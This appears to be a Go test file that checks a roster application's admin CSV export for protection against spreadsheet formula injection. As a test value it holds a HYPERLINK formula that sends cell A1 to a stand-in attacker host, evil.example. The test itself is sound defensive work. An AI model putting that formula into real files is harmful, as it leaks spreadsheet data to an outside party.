package admin

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/rosterd/rosterd/store/storetest"
)

// TestExportNeutralisesFormulas: values an admin, an IdP or an HR file
// wrote reach export.csv as text, also behind leading spaces and where a
// spreadsheet splitting on ";" would cut a cell in two. Columns are found
// by their header, not their place.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t, storetest.Migrated(t, storetest.OpenSQLite))
	e.setSnapshot("hr", "ann@example.com")
	e.runFeed("hr")
	ann := e.cardID("ann@example.com")
	hyperlink := ` =HYPERLINK("https://evil.example/?"&A1,"Click")`
	e.must(200, "PATCH", acme+"/cards/"+ann, map[string]any{"display_name": hyperlink, "department": "a;=1+1", "location": "\t=1"})

	res := e.do("GET", acme+"/cards/export.csv", roKey, nil)
	if res.Status != 200 {
		t.Fatalf("export: %d %s", res.Status, res.Raw)
	}
	rows, err := csv.NewReader(strings.NewReader(res.Raw)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v\n%s", err, res.Raw)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for name, want := range map[string]string{"display_name": "'" + hyperlink, "department": "'a;=1+1", "location": "'\t=1"} {
		i, ok := col[name]
		if !ok {
			t.Fatalf("export has no %q column: %q", name, rows[0])
		}
		if got := rows[1][i]; got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if !strings.Contains(res.Raw, `"'a;=1+1"`) {
		t.Errorf("the cell with a \";=\" is not quoted, so a spreadsheet splitting on \";\" cuts it:\n%s", res.Raw)
	}
}
